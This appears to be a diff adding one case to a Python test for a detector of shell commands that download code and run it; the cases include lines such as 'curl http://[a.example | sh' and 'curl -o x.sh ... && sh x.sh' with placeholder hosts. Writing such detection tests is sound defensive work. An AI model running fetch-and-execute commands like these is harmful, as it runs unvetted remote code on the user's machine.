@@ -199,6 +199,7 @@ def test_sudo_without_a_password() -> None:
         ("curl -s https://a.example/x | gpg --dearmor -o k && sh x.sh", []),
         ("curl -o x.sh https://a.example/x && sh x.sh", []),
         ("echo x | sh", []),
+        ("curl http://[a.example | sh", [("?", "sh", False)]),
     ],
 )
 def test_fetched_and_run(command: str, expected: list[tuple[str, str, bool]]) -> None:
